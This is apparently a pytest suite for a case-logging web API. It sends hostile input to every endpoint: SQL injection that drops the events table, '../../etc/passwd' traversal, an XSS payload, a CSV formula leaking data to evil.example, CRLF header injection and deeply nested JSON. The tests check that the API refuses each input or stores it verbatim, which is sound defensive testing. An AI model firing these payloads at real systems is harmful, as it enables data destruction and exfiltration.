"""Hostile input on every endpoint that takes a body or a query, and the store stays whole.

Oversized bodies, malformed and deeply nested JSON and wrong content types are
sent to every endpoint of the OpenAPI document that takes a body; injection
strings (SQL, path traversal, NUL, lone surrogates, very long Unicode, HTML,
CSV formulas) go into every text field, query parameter and named path.
Each answers 4xx in the error shape, or 2xx with the text stored as sent and
shown as sent wherever it is shown (a client ref: nowhere); nothing is 5xx;
the store holds exactly the events of the writes answered 2xx, and its
`stored_events` table is still there.

tests/api/test_bad_input.py has the statuses of the directory, contact and
client endpoints (413 on each, 400 for a body not an object, 415 and nesting
on contacts, lone surrogates in their fields); this file has the rest.
"""

from __future__ import annotations

import itertools
import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

import pytest

import api.read_models
from api.guard import MAX_BODY_BYTES
from logbook.access import ALLOWED_ROLES
from logbook.notes import SealedText, TextKind
from projections.storage import encode_cursor
from tests.stores import count_stored_events

CALLERS = {"worker": "ann", "team_lead": "lena", "admin": "admin", "researcher": "rita"}
"""Who sends each request: the first whose role may perform it."""

COVERED_BY_TEST_BAD_INPUT = {
    "POST /api/v1/teams", "POST /api/v1/accounts", "POST /api/v1/profiles", "POST /api/v1/contacts",
    "POST /api/v1/contacts/{contact_id}/corrections", "POST /api/v1/contacts/{contact_id}/retraction",
    "POST /api/v1/clients/lookup", "POST /api/v1/clients/{client_id}/follow-ups",
    "POST /api/v1/clients/{client_id}/follow-ups/{follow_up_id}/completion",
}
"""Their 413 and their 400 for a JSON body that is not an object."""

INJECTIONS = {
    "sql drop table": "'; DROP TABLE stored_events; --",
    "sql or 1=1": '" OR 1=1 --',
    "path traversal": "../../etc/passwd",
    "html script": "<script>alert('x')</script><img src=x onerror=alert(1)>",
    "csv formula": '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "header injection": "a\r\nSet-Cookie: session=1",
    "right-to-left override": "\u202eexe.gnp",
    "astral unicode": "\U0001d50d" * 100,
}
"""Text that is text: stored and shown exactly as sent wherever a free-text field takes it."""

LONE_SURROGATE = "jonas\ud800"
VERY_LONG_UNICODE = "\U0001d50d" * 3000
"""Over every text field's limit in characters, under the body's in bytes (12 per character, escaped)."""
NOT_TEXT = {"lone surrogate": LONE_SURROGATE, "nul byte": "jonas\u0000k", "very long unicode": VERY_LONG_UNICODE}
"""Refused by every text field: 422 (PostgreSQL's text cannot hold a NUL, and no one writes one)."""
EVERY_PAYLOAD = INJECTIONS | NOT_TEXT


@pytest.fixture(scope="module")
def world(open_world: Any, tmp_path_factory: Any) -> Any:
    """A world with a contact of Ann's (and the crossing it made), a follow-up, a spare account and a replay."""
    world = open_world(tmp_path_factory.mktemp("hostile-input"))
    contact = world.logged_contact("ann")
    follow_up = world.follow_up("ann", contact["client_id"]).get_json()
    world.add_account("dirk", team_id="jac-oostende")
    replay = world.post("/api/v1/research/replays", {"until": world.now.isoformat(), "policy": "sector-agreement-2019"},
                        who="rita").get_json()
    world.project()
    [crossing] = world.get("/api/v1/crossings", who="admin").get_json()["items"]
    world.resources = {
        "contact_id": contact["contact_id"], "client_id": contact["client_id"],
        "follow_up_id": follow_up["follow_up_id"], "crossing_id": crossing["crossing_id"],
        "team_id": "jac-oostende", "account_id": "dirk", "replay_id": replay["replay_id"],
    }
    return world


@pytest.fixture(autouse=True)
def read_models_answer_at_once(monkeypatch: Any) -> None:
    monkeypatch.setattr(api.read_models, "WAIT_SECONDS", 0)


# The endpoints, from the OpenAPI document.

@dataclass(frozen=True)
class Endpoint:
    label: str
    method: str
    path: str
    """With the world's resources in its named parts."""
    caller: str
    query: tuple[str, ...]
    max_body_bytes: int


@pytest.fixture(scope="module")
def endpoints(world: Any) -> list[Endpoint]:
    """Every GET and POST of the OpenAPI document, on the world's resources, sent by a role that may."""
    document = world.client.get("/api/v1/openapi.json").get_json()
    return [
        endpoint_of(world, method.upper(), path, operation)
        for path, operations in document["paths"].items()
        for method, operation in operations.items() if method in ("get", "post")
    ]


def endpoint_of(world: Any, method: str, template: str, operation: dict[str, Any]) -> Endpoint:
    path = template.format(**world.resources)
    endpoint, _ = world.app.url_map.bind("localhost").match(path, method=method)
    view = world.app.view_functions[endpoint]
    action = getattr(view, "logbook_action", None)
    caller = next(who for role, who in CALLERS.items() if action is None or role in ALLOWED_ROLES[action])
    query = tuple(p["name"] for p in operation.get("parameters", []) if p["in"] == "query")
    return Endpoint(f"{method} {template}", method, path, caller,
                    query, getattr(view, "logbook_max_body_bytes", MAX_BODY_BYTES))


@pytest.fixture(scope="module")
def body_endpoints(endpoints: list[Endpoint]) -> list[Endpoint]:
    return [endpoint for endpoint in endpoints if endpoint.method == "POST"]


@pytest.fixture(scope="module")
def query_endpoints(endpoints: list[Endpoint]) -> list[Endpoint]:
    return [endpoint for endpoint in endpoints if endpoint.query]


# What every answer must be, and what the store must hold.

def stored_events(world: Any) -> int:
    """The rows of the store's events table, read apart from the server (raises if the table is gone)."""
    return count_stored_events(world.app.extensions["logbook"].settings)


def head(world: Any) -> int:
    """The position of the store's last event (on PostgreSQL, positions have gaps: it is not a count)."""
    return int(world.app.extensions["logbook"].get().head_position())


def refused(world: Any, response: Any, status: int | tuple[int, ...], code: str | None = None) -> dict[str, Any]:
    statuses = status if isinstance(status, tuple) else (status,)
    assert response.status_code in statuses, (response.status_code, response.get_data(as_text=True)[:500])
    error = world.error_of(response)
    assert code is None or error["code"] == code, error
    return error


@pytest.fixture
def store_unchanged(world: Any) -> Iterator[None]:
    """The test writes nothing: the store's events are the same before and after."""
    before = stored_events(world)
    yield
    assert stored_events(world) == before == world.events_in_store()


def send(world: Any, endpoint: Endpoint, data: bytes | str, content_type: str | None = "application/json") -> Any:
    return world.client.open(endpoint.path, method=endpoint.method, data=data, content_type=content_type,
                             headers=world.headers(endpoint.caller))


# Bodies: too large, not JSON, not an object, nested too deep.

@pytest.mark.usefixtures("store_unchanged")
def test_a_body_just_over_the_limit_is_too_large_on_every_endpoint(world, body_endpoints, subtests):
    for endpoint in body_endpoints:
        if endpoint.label in COVERED_BY_TEST_BAD_INPUT:
            continue
        with subtests.test(msg=endpoint.label):
            padding = endpoint.max_body_bytes + 1 - len(json.dumps({"padding": ""}))
            data = json.dumps({"padding": "x" * padding})
            assert len(data) == endpoint.max_body_bytes + 1

            refused(world, send(world, endpoint, data), 413, "payload_too_large")


CONTENT_TYPES = [None, "text/plain", "text/json", "application/x-www-form-urlencoded",
                 "multipart/form-data; boundary=x", "application/xml", "application/octet-stream"]


@pytest.mark.usefixtures("store_unchanged")
@pytest.mark.parametrize("content_type", CONTENT_TYPES)
def test_a_json_body_sent_as_another_type_is_an_unsupported_media_type_on_every_endpoint(
    world, body_endpoints, subtests, content_type
):
    for endpoint in body_endpoints:
        if endpoint.label == "POST /api/v1/contacts":
            continue  # tests/api/test_bad_input.py
        with subtests.test(msg=endpoint.label):
            response = send(world, endpoint, json.dumps({"reason": "Sent as a form."}), content_type)

            refused(world, response, 415, "unsupported_media_type")


MALFORMED = {
    "empty": b"",
    "unclosed object": b'{"reason": "x"',
    "missing value": b'{"reason": }',
    "single quotes": b"{'reason': 'x'}",
    "trailing comma": b'{"reason": "x",}',
    "trailing garbage": b'{"reason": "x"} {"reason": "y"}',
    "comment": b'{"reason": "x" /* note */}',
    "invalid utf-8": b'{"reason": "\xff\xfe"}',
    "nan alone": b"NaN",
}
NOT_AN_OBJECT = {"array": b"[]", "string": b'"reason"', "number": b"42", "null": b"null", "true": b"true"}
DEPTH = 30_000
"""Far deeper than Python's recursion limit, and under the 64 KiB limit."""
TOO_DEEP = {
    "nested arrays": b"[" * DEPTH + b"]" * DEPTH,
    "nested objects": b'{"a":' * (DEPTH // 3) + b"1" + b"}" * (DEPTH // 3),
    "nested in a field": b'{"reason": ' + b"[" * DEPTH + b"]" * DEPTH + b"}",
}


@pytest.mark.usefixtures("store_unchanged")
@pytest.mark.parametrize("data", list(MALFORMED.values()) + list(TOO_DEEP.values()),
                         ids=list(MALFORMED) + list(TOO_DEEP))
def test_a_body_that_is_not_json_or_nested_too_deep_is_a_bad_request_on_every_endpoint(
    world, body_endpoints, subtests, data
):
    for endpoint in body_endpoints:
        if endpoint.label == "POST /api/v1/contacts":
            continue  # tests/api/test_bad_input.py
        with subtests.test(msg=endpoint.label):
            refused(world, send(world, endpoint, data), 400, "bad_request")


@pytest.mark.usefixtures("store_unchanged")
@pytest.mark.parametrize("data", list(NOT_AN_OBJECT.values()), ids=list(NOT_AN_OBJECT))
def test_a_json_body_that_is_not_an_object_is_a_bad_request_on_every_endpoint(world, body_endpoints, subtests, data):
    for endpoint in body_endpoints:
        if endpoint.label in COVERED_BY_TEST_BAD_INPUT:
            continue
        with subtests.test(msg=endpoint.label):
            refused(world, send(world, endpoint, data), 400, "bad_request")


NESTED_READABLY = '{"a": [' * 300 + '"x"' + "]}" * 300
"""600 levels: deeper than any schema, shallower than the recursion limit, so it is read."""


@pytest.mark.usefixtures("store_unchanged")
@pytest.mark.parametrize("data", [
    f'{{"reason": {NESTED_READABLY}, "comment": {NESTED_READABLY}}}', f'{{"unknown": {NESTED_READABLY}}}',
], ids=["in the text fields", "in an unknown field"])
def test_a_deep_object_json_can_read_is_unprocessable_on_every_endpoint(world, body_endpoints, subtests, data):
    for endpoint in body_endpoints:
        with subtests.test(msg=endpoint.label):
            refused(world, send(world, endpoint, data), 422)


# Queries and named paths: every parameter, every payload.

QUERY_PAYLOADS = INJECTIONS | {"very long unicode": VERY_LONG_UNICODE}
"""A lone surrogate cannot be put in a URL: `test_a_query_string_that_is_not_text...` sends its UTF-8 form."""


@pytest.mark.usefixtures("store_unchanged")
@pytest.mark.parametrize("payload", list(QUERY_PAYLOADS.values()), ids=list(QUERY_PAYLOADS))
def test_an_injection_in_any_query_parameter_is_refused_or_finds_nothing(
    world, query_endpoints, subtests, payload
):
    for endpoint in query_endpoints:
        for name in endpoint.query:
            with subtests.test(msg=f"{endpoint.label}?{name}"):
                response = world.client.get(endpoint.path, query_string={name: payload},
                                            headers=world.headers(endpoint.caller))

                error = assert_refused_or_nothing_found(world, response)
                assert payload not in (error or {}).get("message", ""), "an error message never quotes input"


def assert_refused_or_nothing_found(world: Any, response: Any) -> dict[str, Any] | None:
    if response.status_code == 200:
        body = response.get_json()
        assert not body.get("items") and not any(row.get("contacts") for row in body.get("rows", [])), body
        return None
    return refused(world, response, (404, 422))


@pytest.mark.usefixtures("store_unchanged")
@pytest.mark.parametrize("raw", [
    "site=%ED%A0%80", "site=%FF%FE", "site=%00", "team_id=%2E%2E%2F%2E%2E%2Fetc%2Fpasswd",
    "site=a&site=b", "%27%3B+DROP+TABLE+stored_events%3B+--=1",
], ids=["surrogate as utf-8", "invalid utf-8", "nul", "encoded traversal", "repeated", "injection as a name"])
def test_a_query_string_that_is_not_text_or_not_ours_is_refused_or_finds_nothing(world, raw):
    response = world.get(f"/api/v1/crossings?{raw}", who="admin")

    assert_refused_or_nothing_found(world, response)


PATHS_WITH_NAMES = ["/api/v1/teams/{}/clients", "/api/v1/teams/{}/follow-ups", "/api/v1/accounts/{}/tokens",
                    "/api/v1/accounts/{}/tokens/revoke", "/api/v1/accounts/{}/deactivation"]


@pytest.mark.usefixtures("store_unchanged")
@pytest.mark.parametrize("payload", list(INJECTIONS.values()) + ["%ED%A0%80", "%FF"],
                         ids=list(INJECTIONS) + ["surrogate as utf-8", "invalid utf-8"])
@pytest.mark.parametrize("template", PATHS_WITH_NAMES)
def test_an_injection_in_a_named_path_names_nothing(world, template, payload):
    segment = payload if payload.startswith("%") else quote(payload, safe="")
    path = template.format(segment)
    method, who = ("GET", "ann") if path.startswith("/api/v1/teams") else ("POST", "admin")

    response = world.client.open(path, method=method, json={}, headers=world.headers(who))

    refused(world, response, 404, "not_found")


@pytest.mark.usefixtures("store_unchanged")
def test_a_name_with_a_slash_in_a_path_is_not_resolved_to_another_endpoint(world):
    response = world.client.post("/api/v1/accounts/..%2F..%2Fteams/tokens", json={},
                                 headers=world.headers("admin"))

    refused(world, response, 404, "not_found")


# Every free-text field: stored and shown exactly as sent, or refused.

_serial = itertools.count(1)


def serial() -> int:
    return next(_serial)


@dataclass(frozen=True)
class TextField:
    """A free-text field: what its request needs, how to send it with ``text``, and where ``text`` comes back."""

    name: str
    """As the error's `fields` names it."""
    write: Callable[[Any, dict[str, Any], str], Any]
    """Sends the request with the text; answers the response."""
    read_back: Callable[[Any, dict[str, Any], Any], list[Any]]
    """After a 2xx: the text in every place it is shown, or as stored where it is never shown."""
    arrange: Callable[[Any], dict[str, Any]] = lambda w: {}
    """Makes what the request acts on (a contact to correct, a client to erase) before the store is counted."""
    new_events: int | None = None
    """The events a 2xx records; None when it answers the `position` of one of them."""


def team_field(name: str) -> TextField:
    def write(w: Any, arranged: dict[str, Any], text: str) -> Any:
        body = {"team_id": f"team-{serial()}", "name": "Team", "organisation": "caw-nwvl", "site": "Gent",
                "service": "jac", name: text}
        return w.post("/api/v1/teams", body, who="admin")

    def read_back(w: Any, arranged: dict[str, Any], response: Any) -> list[Any]:
        team = response.get_json()
        teams = w.get("/api/v1/teams", who="admin").get_json()["items"]
        [listed] = [listed for listed in teams if listed["team_id"] == team["team_id"]]
        return [team[name], listed[name]]

    return TextField(name, write, read_back, new_events=2)  # the team and its listing


def account_name() -> TextField:
    def write(w: Any, arranged: dict[str, Any], text: str) -> Any:
        body = {"account_id": f"researcher-{serial()}", "name": text, "role": "researcher"}
        return w.post("/api/v1/accounts", body, who="admin")

    def read_back(w: Any, arranged: dict[str, Any], response: Any) -> list[Any]:
        account = response.get_json()
        me = w.client.get("/api/v1/me", headers={"Authorization": f"Bearer {account['token']}"}).get_json()
        return [account["name"], me["name"]]

    return TextField("name", write, read_back, new_events=3)  # the account, its token, the token's own


def contact_field(name: str) -> TextField:
    def write(w: Any, arranged: dict[str, Any], text: str) -> Any:
        return w.log_contact("ann", client_ref=f"client-{serial()}", **{name: text})

    def read_back(w: Any, arranged: dict[str, Any], response: Any) -> list[Any]:
        contact, item = contact_and_timeline_item(w, response.get_json()["contact_id"])
        return [contact[name], item[name]]

    return TextField(name, write, read_back)


def contact_and_timeline_item(w: Any, contact_id: str) -> tuple[dict[str, Any], dict[str, Any]]:
    contact = w.get(f"/api/v1/contacts/{contact_id}", who="ann").get_json()
    w.project()
    timeline = w.get(f"/api/v1/clients/{contact['client_id']}/timeline", who="ann").get_json()
    [item] = [item for item in timeline["items"] if item.get("contact_id") == contact_id]
    return contact, item


def client_ref_of_a_contact() -> TextField:
    def write(w: Any, arranged: dict[str, Any], text: str) -> Any:
        arranged["ref"] = text
        return w.log_contact("ann", client_ref=text)

    def read_back(w: Any, arranged: dict[str, Any], response: Any) -> list[Any]:
        receipt = response.get_json()
        shown = [receipt, *contact_and_timeline_item(w, receipt["contact_id"])]
        assert not mentions(shown, arranged["ref"]), "a client ref is never shown"
        looked_up = w.post("/api/v1/clients/lookup", {"client_ref": arranged["ref"]}, who="ann").get_json()
        assert looked_up == {"client_id": receipt["client_id"]}, "the same ref names the same client"
        return [arranged["ref"]]

    return TextField("client_ref", write, read_back)


def client_ref_of_a_lookup() -> TextField:
    def write(w: Any, arranged: dict[str, Any], text: str) -> Any:
        arranged["ref"] = text
        return w.post("/api/v1/clients/lookup", {"client_ref": text}, who="ann")

    def read_back(w: Any, arranged: dict[str, Any], response: Any) -> list[Any]:
        assert set(response.get_json()) == {"client_id"}
        assert not mentions(response.get_json(), arranged["ref"]), "a client ref is never shown"
        return [arranged["ref"]]

    return TextField("client_ref", write, read_back, new_events=0)


def a_contact(w: Any) -> dict[str, Any]:
    return {"contact": w.logged_contact("ann", client_ref=f"client-{serial()}")}


def correction_field(name: str) -> TextField:
    def write(w: Any, arranged: dict[str, Any], text: str) -> Any:
        body = {"changes": {"thread": text if name == "thread" else "t-2"},
                "reason": text if name == "reason" else "Mistyped."}
        return w.post(f"/api/v1/contacts/{arranged['contact']['contact_id']}/corrections", body, who="ann")

    def read_back(w: Any, arranged: dict[str, Any], response: Any) -> list[Any]:
        contact, item = contact_and_timeline_item(w, arranged["contact"]["contact_id"])
        correction = contact["history"][-1]
        if name == "reason":
            return [correction["reason"]]
        return [contact["thread"], correction["changes"]["thread"], item["thread"]]

    return TextField("reason" if name == "reason" else "changes.thread", write, read_back, arrange=a_contact)


def retraction_reason() -> TextField:
    def write(w: Any, arranged: dict[str, Any], text: str) -> Any:
        return w.post(f"/api/v1/contacts/{arranged['contact']['contact_id']}/retraction", {"reason": text}, who="ann")

    def read_back(w: Any, arranged: dict[str, Any], response: Any) -> list[Any]:
        contact = w.get(f"/api/v1/contacts/{arranged['contact']['contact_id']}", who="ann").get_json()
        return [contact["history"][-1]["reason"]]

    return TextField("reason", write, read_back, arrange=a_contact)


def follow_up_reason() -> TextField:
    def write(w: Any, arranged: dict[str, Any], text: str) -> Any:
        return w.follow_up("ann", w.resources["client_id"], reason=text)

    def read_back(w: Any, arranged: dict[str, Any], response: Any) -> list[Any]:
        planned = event_at(w, response.get_json()["position"])  # shown nowhere: as stored, sealed
        sealed = SealedText(planned.originator_id, planned.follow_up_id, TextKind.REASON, planned.reason_key_id,
                            planned.sealed_reason)
        return [w.app.extensions["logbook"].get().notes.open_text(sealed)]

    return TextField("reason", write, read_back)


def erasure_reason() -> TextField:
    def write(w: Any, arranged: dict[str, Any], text: str) -> Any:
        return w.post(f"/api/v1/clients/{arranged['contact']['client_id']}/erasure", {"reason": text}, who="lena")

    def read_back(w: Any, arranged: dict[str, Any], response: Any) -> list[Any]:
        return [event_at(w, response.get_json()["position"]).reason]  # shown nowhere: as stored

    return TextField("reason", write, read_back, arrange=a_contact)


def review_comment() -> TextField:
    def write(w: Any, arranged: dict[str, Any], text: str) -> Any:
        body = {"verdict": "discuss_in_team", "comment": text}
        return w.post(f"/api/v1/crossings/{w.resources['crossing_id']}/reviews", body, who="lena")

    def read_back(w: Any, arranged: dict[str, Any], response: Any) -> list[Any]:
        w.project()
        crossing = w.get(f"/api/v1/crossings/{w.resources['crossing_id']}", who="lena").get_json()
        return [crossing["reviews"][-1]["comment"]]

    return TextField("comment", write, read_back)


TEXT_FIELDS = {
    "team name": team_field("name"), "team site": team_field("site"), "account name": account_name(),
    "contact thread": contact_field("thread"), "contact note": contact_field("note"),
    "contact client_ref": client_ref_of_a_contact(), "lookup client_ref": client_ref_of_a_lookup(),
    "correction reason": correction_field("reason"), "correction thread": correction_field("thread"),
    "retraction reason": retraction_reason(), "follow-up reason": follow_up_reason(),
    "erasure reason": erasure_reason(), "review comment": review_comment(),
}
SURROGATES_TESTED_IN_TEST_BAD_INPUT = {
    "team name", "team site", "account name", "contact thread", "contact client_ref", "lookup client_ref",
    "correction reason", "correction thread", "retraction reason", "follow-up reason",
}


def event_at(w: Any, position: int) -> Any:
    """The event recorded at ``position``, as the store holds it."""
    store = w.app.extensions["logbook"].get()
    [notification] = store.recorder.select_notifications(start=position, limit=1)
    return store.mapper.to_domain_event(notification)


def mentions(value: Any, text: str) -> bool:
    """Whether any string in a JSON value holds ``text``."""
    if isinstance(value, dict):
        return any(mentions(item, text) for item in value.values())
    if isinstance(value, list):
        return any(mentions(item, text) for item in value)
    return isinstance(value, str) and text in value


@pytest.mark.parametrize("text", list(INJECTIONS.values()), ids=list(INJECTIONS))
@pytest.mark.parametrize("field", list(TEXT_FIELDS.values()), ids=list(TEXT_FIELDS))
def test_text_in_every_text_field_is_stored_and_shown_exactly_as_sent(world, field, text):
    arranged = field.arrange(world)
    before, head_before = stored_events(world), head(world)

    response = field.write(world, arranged, text)

    assert response.status_code in (200, 201), response.get_data(as_text=True)[:500]
    assert stored_events(world) == world.events_in_store()
    if field.new_events is None:
        assert head_before < response.get_json()["position"] <= head(world)
    else:
        assert stored_events(world) == before + field.new_events
    shown = field.read_back(world, arranged, response)
    assert shown == [text] * len(shown)


NOT_TEXT_CASES = [
    (name, field, payload_name) for name, field in TEXT_FIELDS.items() for payload_name in NOT_TEXT
    if not (payload_name == "lone surrogate" and name in SURROGATES_TESTED_IN_TEST_BAD_INPUT)
]


@pytest.mark.parametrize("field, payload", [(field, NOT_TEXT[payload]) for _, field, payload in NOT_TEXT_CASES],
                         ids=[f"{name}, {payload}" for name, _, payload in NOT_TEXT_CASES])
def test_what_is_not_text_or_too_long_in_a_text_field_is_unprocessable(world, field, payload):
    arranged = field.arrange(world)
    before = stored_events(world)

    response = field.write(world, arranged, payload)

    error = refused(world, response, 422, "validation_error")
    assert list(error["fields"]) == [field.name]
    assert payload not in error["message"]
    assert stored_events(world) == world.events_in_store() == before


# Every identifier, version, enum and unknown field: an injection is refused.

POLICY = {"version": "hostile-1", "effective_from": "2025-01-01T00:00:00+00:00"}
WORKING_HOURS = {"weekdays": [1, 2, 3, 4, 5], "start": "09:00", "end": "17:00", "timezone": "Europe/Brussels"}
NAMED: dict[str, Callable[[Any, str], Any]] = {
    "team_id": lambda w, text: w.post("/api/v1/teams", {
        "team_id": text, "name": "T", "organisation": "caw-nwvl", "site": "Gent", "service": "jac"}, who="admin"),
    "organisation": lambda w, text: w.post("/api/v1/teams", {
        "team_id": f"team-{serial()}", "name": "T", "organisation": text, "site": "Gent", "service": "jac"},
        who="admin"),
    "account_id": lambda w, text: w.post("/api/v1/accounts", {"account_id": text, "name": "R", "role": "researcher"},
                                         who="admin"),
    "account role": lambda w, text: w.post("/api/v1/accounts", {"account_id": f"r-{serial()}", "name": "R",
                                                                 "role": text}, who="admin"),
    "profile_id": lambda w, text: w.post("/api/v1/profiles", {
        "profile_id": text, "channel": "whatsapp", "kind": "shared", "team_id": "jac-oostende", "users": ["ann"]},
        who="admin"),
    "profile user": lambda w, text: w.post("/api/v1/profiles", {
        "profile_id": f"p-{serial()}", "channel": "whatsapp", "kind": "shared", "team_id": "jac-oostende",
        "users": [text]}, who="admin"),
    "contact profile_id": lambda w, text: w.log_contact("ann", profile_id=text),
    "contact topic": lambda w, text: w.log_contact("ann", topics=[text]),
    "contact nature": lambda w, text: w.log_contact("ann", nature=text),
    "contact occurred_at": lambda w, text: w.log_contact("ann", occurred_at=text),
    "follow-up due": lambda w, text: w.follow_up("ann", w.resources["client_id"], due=text),
    "policy version": lambda w, text: w.post("/api/v1/policies", {**POLICY, "version": text}, who="admin"),
    "policy rule": lambda w, text: w.post("/api/v1/policies", {**POLICY, "rules": {text: {}}}, who="admin"),
    "policy override": lambda w, text: w.post("/api/v1/policies", {**POLICY, "overrides": {text: {}}}, who="admin"),
    "policy severity": lambda w, text: w.post("/api/v1/policies", {
        **POLICY, "rules": {"drift_into_help": {"severity": text}}}, who="admin"),
    "policy time zone": lambda w, text: w.post("/api/v1/policies", {
        **POLICY, "rules": {"out_of_hours": {"params": {"working_hours": {**WORKING_HOURS, "timezone": text}}}}},
        who="admin"),
    "policy clock time": lambda w, text: w.post("/api/v1/policies", {
        **POLICY, "rules": {"out_of_hours": {"params": {"working_hours": {**WORKING_HOURS, "start": text}}}}},
        who="admin"),
    "review verdict": lambda w, text: w.post(f"/api/v1/crossings/{w.resources['crossing_id']}/reviews",
                                             {"verdict": text, "comment": "Fine."}, who="lena"),
    "replay policy": lambda w, text: w.post("/api/v1/research/replays", {"until": w.now.isoformat(), "policy": text},
                                            who="rita"),
    "replay until": lambda w, text: w.post("/api/v1/research/replays", {
        "until": text, "policy": "sector-agreement-2019"}, who="rita"),
    "field of a token rotation": lambda w, text: w.post("/api/v1/accounts/dirk/tokens", {text: 1}, who="admin"),
    "field of a revocation": lambda w, text: w.post("/api/v1/accounts/dirk/tokens/revoke", {text: 1}, who="admin"),
    "field of a deactivation": lambda w, text: w.post("/api/v1/accounts/dirk/deactivation", {text: 1}, who="admin"),
    "field of an erasure": lambda w, text: w.post(f"/api/v1/clients/{w.resources['client_id']}/erasure",
                                                  {"reason": "Asked to.", text: 1}, who="lena"),
}


@pytest.mark.usefixtures("store_unchanged")
@pytest.mark.parametrize("payload", list(EVERY_PAYLOAD.values()), ids=list(EVERY_PAYLOAD))
@pytest.mark.parametrize("named", list(NAMED.values()), ids=list(NAMED))
def test_an_injection_as_an_identifier_version_enum_moment_or_field_name_is_unprocessable(world, named, payload):
    response = named(world, payload)

    error = refused(world, response, 422)
    assert payload not in error["message"], "an error message never quotes input"


# Found by the schemathesis run (tests/api/test_schemathesis.py): each was a 500.

POSITION_BEYOND_64_BITS = 2**63


@pytest.mark.usefixtures("store_unchanged")
@pytest.mark.parametrize("after", [POSITION_BEYOND_64_BITS, 10**30])
def test_a_research_page_after_a_position_beyond_64_bits_is_unprocessable(world, after):
    response = world.get(f"/api/v1/research/events?after={after}", who="rita")

    error = refused(world, response, 422, "validation_error")
    assert list(error["fields"]) == ["after"]


@pytest.mark.usefixtures("store_unchanged")
def test_a_research_page_after_the_largest_position_is_empty(world):
    response = world.get(f"/api/v1/research/events?after={POSITION_BEYOND_64_BITS - 1}", who="rita")

    assert response.status_code == 200
    assert response.get_json() == {"items": [], "next_after": POSITION_BEYOND_64_BITS - 1}


@pytest.mark.usefixtures("store_unchanged")
@pytest.mark.parametrize("row", [str(POSITION_BEYOND_64_BITS - 1), str(POSITION_BEYOND_64_BITS), "9" * 19])
def test_an_audit_cursor_whose_row_is_beyond_what_the_log_numbers_is_unprocessable(world, row):
    cursor = encode_cursor("2025-03-01T12:00:00.000000Z", row)

    response = world.get(f"/api/v1/audit?cursor={cursor}", who="admin")

    error = refused(world, response, 422, "validation_error")
    assert list(error["fields"]) == ["cursor"]


# Found while probing numbers: a fraction was truncated, not refused.

@pytest.mark.usefixtures("store_unchanged")
@pytest.mark.parametrize("years", [5.5, 5.0, "5"])
def test_a_retention_that_is_not_a_whole_number_of_years_is_unprocessable_not_truncated(world, years):
    response = world.post("/api/v1/policies", {**POLICY, "retention_years": years}, who="admin")

    error = refused(world, response, 422, "validation_error")
    assert list(error["fields"]) == ["retention_years"]
